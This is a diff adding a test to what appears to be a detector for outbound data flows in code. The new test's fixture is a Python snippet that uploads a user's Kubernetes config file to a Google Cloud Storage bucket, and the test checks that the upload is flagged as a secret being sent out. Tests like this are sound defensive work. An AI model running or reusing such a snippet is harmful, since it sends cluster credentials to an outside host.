@@ -54,6 +54,16 @@ describe('SDK channels', () => {
     expect(of('send')[0]?.endpoint.host).toBe('s3.amazonaws.com');
   });
 
+  it('Google Cloud Storage upload of a file', async () => {
+    const { of } = await py(
+      'from google.cloud import storage\nb = storage.Client().bucket("drop")\nb.blob("k").upload_from_filename("/home/u/.kube/config")\n',
+    );
+    const s = of('send')[0];
+    expect(s?.channel).toBe('storage');
+    expect(s?.endpoint.host).toBe('storage.googleapis.com');
+    expect(s?.data.secret).toBe('kube-config');
+  });
+
   it('Slack and Discord webhook clients', async () => {
     const { of } = await py(
       [
